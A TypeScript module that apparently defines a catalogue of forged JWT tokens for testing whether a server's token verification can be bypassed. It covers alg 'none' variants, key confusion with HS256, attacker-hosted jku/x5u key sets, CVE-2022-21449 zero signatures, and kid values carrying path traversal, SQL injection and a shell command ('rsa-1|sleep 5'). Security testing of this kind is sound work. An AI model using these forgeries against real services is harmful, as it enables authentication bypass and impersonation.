import { publicEncrypt, randomBytes } from 'node:crypto';
import type { Attack, Shot } from './attack.ts';
import { base64url, byKey, bySecret, compact, type Members } from './forge.ts';
import { proofAttacks } from './proof-attacks.ts';
import { claimsOf, type Stand, secretIssuer, secret as sharedSecret } from './stand.ts';

export const bearer = (token: string): Shot => ({ lines: [`Authorization: Bearer ${token}`] });
const forged = (name: string, token: (stand: Stand) => string, control?: (stand: Stand) => string): Attack => ({
  name,
  attack: (stand) => bearer(token(stand)),
  ...(control ? { control: (stand: Stand) => bearer(control(stand)) } : {}),
});
const claimed = (name: string, claims: Members, control: Members = {}): Attack =>
  forged(
    name,
    (stand) => stand.token(claims),
    (stand) => stand.token(control),
  );
/** Signed by the issuer's own key over a header that says more. */
const headed = (name: string, header: Members, control?: Members): Attack =>
  forged(
    name,
    (stand) => stand.token({}, header),
    (stand) => stand.token({}, control),
  );
/** Signed by the attacker's key, with a header that points to it. */
const pointed = (name: string, header: (stand: Stand) => Members): Attack =>
  forged(name, (stand) => compact({ alg: 'RS256', kid: 'rsa-1', ...header(stand) }, claimsOf(), byKey(stand.evilRsa, 'RS256')));
const keyed = (name: string, kid: unknown): Attack =>
  forged(
    name,
    () => compact({ alg: 'HS256', kid }, claimsOf({ iss: secretIssuer }), bySecret('')),
    () => secretToken(),
  );
const unsigned = (alg: string): Attack => forged(`alg "${alg}" without a signature`, () => compact({ alg }, claimsOf(), () => ''));

function secretToken(claims: Members = {}): string {
  return compact({ alg: 'HS256' }, claimsOf({ iss: secretIssuer, ...claims }), bySecret(sharedSecret));
}

function ecToken(stand: Stand, signed: (text: string) => string = byKey(stand.ec, 'ES256')): string {
  return compact({ alg: 'ES256', kid: 'ec-1' }, claimsOf(), signed);
}
const zeros = () => base64url(new Uint8Array(64));

/** Another letter at the end that decodes to the same bytes. */
function spelledAnew(token: string): string {
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  return token.slice(0, -1) + alphabet[alphabet.indexOf(token.at(-1) ?? '') + 1];
}

function pemOf(stand: Stand): string {
  return stand.rsa.publicKey.export({ type: 'spki', format: 'pem' }).toString();
}

function asPublic(name: string, secret: (stand: Stand) => string | Uint8Array): Attack {
  return forged(`HS256 with ${name} for a secret`, (stand) => compact({ alg: 'HS256', kid: 'rsa-1' }, claimsOf(), bySecret(secret(stand))));
}

/** Five parts: a key under the issuer's public one, and nothing that anybody signed. */
function encrypted(stand: Stand): string {
  const header = base64url(JSON.stringify({ alg: 'RSA-OAEP', enc: 'A256GCM', cty: 'JWT', kid: 'rsa-1' }));
  const key = publicEncrypt(stand.rsa.publicKey, randomBytes(32));
  return [header, base64url(key), base64url(randomBytes(12)), base64url(JSON.stringify(claimsOf())), base64url(randomBytes(16))].join('.');
}

function inPlace(name: string, shot: (token: string) => Shot): Attack {
  return { name, attack: (stand) => shot(stand.token()), control: (stand) => bearer(stand.token()) };
}

const far = 4_102_444_800;

export const attacks: readonly Attack[] = [
  ...['none', 'None', 'NONE', 'nOnE', ''].map(unsigned),
  forged('alg "none" with a signature left on', ({ rsa }) => compact({ alg: 'none' }, claimsOf(), byKey(rsa, 'RS256'))),
  forged('a signature taken off', (stand) => stand.token().replace(/[^.]*$/, '')),
  forged('two parts', (stand) => stand.token().split('.').slice(0, 2).join('.')),
  asPublic('the public key as PEM', pemOf),
  asPublic('the public key as PEM without its last line', (stand) => pemOf(stand).trim()),
  asPublic('the public key as DER', ({ rsa }) => rsa.publicKey.export({ type: 'spki', format: 'der' })),
  asPublic('the public key as JWK', ({ rsa }) => JSON.stringify(rsa.jwk)),
  asPublic('the modulus', ({ rsa }) => String(rsa.jwk['n'])),
  asPublic('the EC key as PEM', ({ ec }) => ec.publicKey.export({ type: 'spki', format: 'pem' }).toString()),
  asPublic('nothing', () => ''),
  forged('HS256 by a shared key that stands in the set', () =>
    compact({ alg: 'HS256', kid: 'shared-1' }, claimsOf(), bySecret('a shared key that stands in a set')),
  ),
  forged('claims changed under their signature', (stand) => {
    const [head, , signature] = stand.token().split('.');
    return [head, base64url(JSON.stringify(claimsOf({ sub: 'admin' }))), signature].join('.');
  }),
  forged('a header changed under its signature', (stand) => {
    const [, claims, signature] = stand.token().split('.');
    return [base64url(JSON.stringify({ alg: 'RS256', kid: 'rsa-1', typ: 'at+jwt' })), claims, signature].join('.');
  }),
  forged('the signature of another token', (stand) => `${stand.token().replace(/[^.]*$/, '')}${stand.token({ sub: 'u-2' }).split('.')[2]}`),
  pointed("a key of one's own under the id of the issuer's", () => ({})),
  pointed("a key of one's own without an id", () => ({ kid: undefined })),
  pointed('jwk: a key that the token brings', ({ evilRsa }) => ({ jwk: evilRsa.jwk })),
  pointed("jku: a key set of one's own", ({ evilUrl }) => ({ jku: `${evilUrl}/jwks` })),
  pointed("x5u: a chain of one's own", ({ evilUrl }) => ({ x5u: `${evilUrl}/chain.pem` })),
  pointed('x5c: a certificate that the token brings', ({ evilRsa }) => ({
    x5c: [evilRsa.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
  })),
  pointed("x5t#S256: the thumbprint of one's own certificate", () => ({ 'x5t#S256': base64url(randomBytes(32)) })),
  pointed('kid: an address', ({ evilUrl }) => ({ kid: `${evilUrl}/jwks` })),
  keyed('kid: a path to an empty file', '../../../../../../dev/null'),
  keyed('kid: a path with a zero byte', '/dev/null\u0000.pem'),
  keyed('kid: a query', "x' UNION SELECT '' -- "),
  keyed('kid: a command', 'rsa-1|sleep 5'),
  keyed('kid: the name of a member of every object', '__proto__'),
  keyed('kid: an object', { $ne: null }),
  keyed('kid: a list', ['rsa-1']),
  keyed('kid: a number', 1),
  keyed('kid: a long one', 'k'.repeat(4_000)),
  headed('crit: an extension that nobody knows', { crit: ['https://id.test/role'], 'https://id.test/role': 'admin' }),
  headed('crit: nothing', { crit: [] }),
  headed('b64: false (RFC 7797)', { crit: ['b64'], b64: false }),
  headed('zip', { zip: 'DEF' }),
  headed('typ: a logout token', { typ: 'logout+jwt' }, { typ: 'at+jwt' }),
  headed('typ: a security event', { typ: 'secevent+jwt' }, { typ: 'application/at+jwt' }),
  headed('typ: a proof', { typ: 'dpop+jwt' }, { typ: 'jwt' }),
  headed('an algorithm that is not pinned', { alg: 'RS512' }),
  forged('a header with alg twice', ({ rsa }) => compact('{"alg":"RS256","kid":"rsa-1","alg":"none"}', claimsOf(), byKey(rsa, 'RS256'))),
  forged('claims with sub twice', ({ rsa }) => twice(rsa, '"sub":"admin"')),
  forged('claims with sub twice, once in escapes', ({ rsa }) => twice(rsa, '"\\u0073ub":"admin"')),
  claimed('ended', { exp: Math.floor(Date.now() / 1000) - 3_600 }),
  claimed('an end that is a text', { exp: String(far) }, { exp: far }),
  claimed('an end before time began', { exp: -far }, { exp: far }),
  claimed('no end', { exp: undefined }),
  claimed('not yet begun', { nbf: far, exp: far + 10 }, { nbf: 1, exp: far }),
  claimed('issued in times to come', { iat: far, exp: far + 10 }, { iat: 1, exp: far }),
  claimed('of another issuer', { iss: 'https://elsewhere.test' }),
  claimed('of an issuer that begins alike', { iss: 'https://id.test.evil.test' }),
  claimed('of an issuer with a slash more', { iss: 'https://id.test/' }),
  claimed('of an issuer in a list', { iss: ['https://id.test'] }),
  claimed('of no issuer', { iss: undefined }),
  claimed('of an issuer that signs with another key', { iss: secretIssuer }),
  claimed('for another audience', { aud: 'bank' }, { aud: ['bank', 'shop'] }),
  claimed('for an audience that begins alike', { aud: 'shop-admin' }),
  claimed('for an audience in an object', { aud: { shop: true } }, { aud: ['shop'] }),
  claimed('for no audience', { aud: undefined }),
  claimed('for none of a list', { aud: [] }, { aud: ['shop'] }),
  claimed('a subject that is an object', { sub: { toString: 'admin' } }),
  claimed('bound to a key, and no key shown', { cnf: { jkt: base64url(randomBytes(32)) } }),
  claimed('bound to a certificate, and none shown', { cnf: { 'x5t#S256': base64url(randomBytes(32)) } }),
  claimed('bound to what nobody can check', { cnf: { kid: 'holder' } }),
  forged(
    'ES256: a signature of zeros (CVE-2022-21449)',
    (stand) => ecToken(stand, zeros),
    (stand) => ecToken(stand),
  ),
  forged(
    'ES256: an empty list for a signature, in DER',
    (stand) => ecToken(stand, () => base64url(Buffer.from('3006020100020100', 'hex'))),
    (stand) => ecToken(stand),
  ),
  forged(
    "ES256: a signature of one's own",
    (stand) => ecToken(stand, byKey(stand.evilEc, 'ES256')),
    (stand) => ecToken(stand),
  ),
  forged(
    'ES256 claimed, and an RSA signature',
    (stand) => ecToken(stand, byKey(stand.rsa, 'RS256')),
    (stand) => ecToken(stand),
  ),
  forged('a key that is there for encryption', ({ forEncryption }) =>
    compact({ alg: 'RS256', kid: 'enc-1' }, claimsOf(), byKey(forEncryption, 'RS256')),
  ),
  forged('a key of 1024 bits', ({ short }) => compact({ alg: 'RS256', kid: 'short-1' }, claimsOf(), byKey(short, 'RS256'))),
  forged('a signature cut short', (stand) => stand.token().slice(0, -8)),
  forged('a signature spelled anew', (stand) => spelledAnew(stand.token())),
  forged('padding', (stand) => `${stand.token()}==`),
  forged('letters of another alphabet', (stand) => stand.token().replaceAll('_', '/').replaceAll('-', '+').replace(/\.(.)/, '.+$1')),
  forged('a space within', (stand) => stand.token().replace('.', '. ')),
  forged('encrypted and signed by nobody', encrypted),
  forged('a JSON serialization', (stand) => {
    const [head, claims, signature] = stand.token().split('.');
    return JSON.stringify({ protected: head, payload: claims, signature }).replaceAll(' ', '');
  }),
  forged('claims that are a list', ({ rsa }) =>
    compact({ alg: 'RS256', kid: 'rsa-1' }, '[{"iss":"https://id.test"}]', byKey(rsa, 'RS256')),
  ),
  forged('claims that are no UTF-8', ({ rsa }) =>
    compact(
      { alg: 'RS256', kid: 'rsa-1' },
      Buffer.concat([Buffer.from('{"sub":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]),
      byKey(rsa, 'RS256'),
    ),
  ),
  forged('claims in a thousand layers', ({ rsa }) =>
    compact({ alg: 'RS256', kid: 'rsa-1' }, `${'{"a":'.repeat(1_000)}1${'}'.repeat(1_000)}`, byKey(rsa, 'RS256')),
  ),
  claimed('a token of 20 KB', { padding: 'p'.repeat(15_000) }, { padding: 'p'.repeat(5_000) }),
  inPlace('in the query', (token) => ({ lines: [], target: `/?access_token=${token}` })),
  inPlace('in a cookie', (token) => ({ lines: [`Cookie: access_token=${token}`] })),
  inPlace('in a form', (token) => ({
    lines: ['Content-Type: application/x-www-form-urlencoded'],
    method: 'POST',
    body: `access_token=${token}`,
  })),
  inPlace('under another scheme', (token) => ({ lines: [`Authorization: Token ${token}`] })),
  inPlace('on two lines', (token) => ({ lines: [`Authorization: Bearer ${token}`, 'Authorization: Bearer x.y.z'] })),
  inPlace('after a comma', (token) => ({ lines: [`Authorization: Bearer x.y.z, Bearer ${token}`] })),
  ...proofAttacks,
];

function twice(rsa: Stand['rsa'], member: string): string {
  return compact({ alg: 'RS256', kid: 'rsa-1' }, `${JSON.stringify(claimsOf()).slice(0, -1)},${member}}`, byKey(rsa, 'RS256'));
}
